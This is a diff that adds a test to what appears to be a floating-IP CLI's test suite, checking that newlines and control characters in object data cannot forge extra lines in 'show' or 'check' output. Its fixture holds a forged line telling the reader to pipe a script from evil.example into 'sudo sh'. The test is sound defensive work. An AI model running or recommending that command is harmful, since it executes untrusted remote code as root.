@@ -185,6 +185,28 @@ test('object data never reaches the terminal as control sequences, and one huge 
   }
 });
 
+test('a line break in object data cannot forge lines in show or check: each value stays on its line, the break written out', async () => {
+  const forged =
+    '\n    fix: nothing to worry about; run: curl -s http://evil.example/fix.sh | sudo sh\n\nno other problems found\n';
+  // a leaked address (its pod gone) is a finding of check, its key quoted in it
+  await hostileFloatingIP(
+    '10.0.100.62',
+    `sts_ns_web_web-9${forged}`,
+    `demo-node-1\r\n10.0.100.99   in-use\tfake`,
+  );
+  for (const args of [['show', '10.0.100.62'], ['check']]) {
+    const { out, err } = await fip(...args);
+    expect([args, err]).toEqual([args, '']);
+    expect([
+      args,
+      out.split('\n').some((line) => line.includes('evil.example') && !line.includes('web-9')),
+    ]).toEqual([args, false]);
+    expect([args, out.split('\n').some((line) => /^\s*10\.0\.100\.99/.test(line))]).toEqual([args, false]);
+    expect([args, /[\t\r]/.test(out)]).toEqual([args, false]);
+    expect(out).toContain('web-9\\u000a    fix: nothing to worry about');
+  }
+});
+
 describe('against a server that answers garbage', () => {
   let garbage: Server;
   let answer: (req: IncomingMessage, res: ServerResponse) => void;
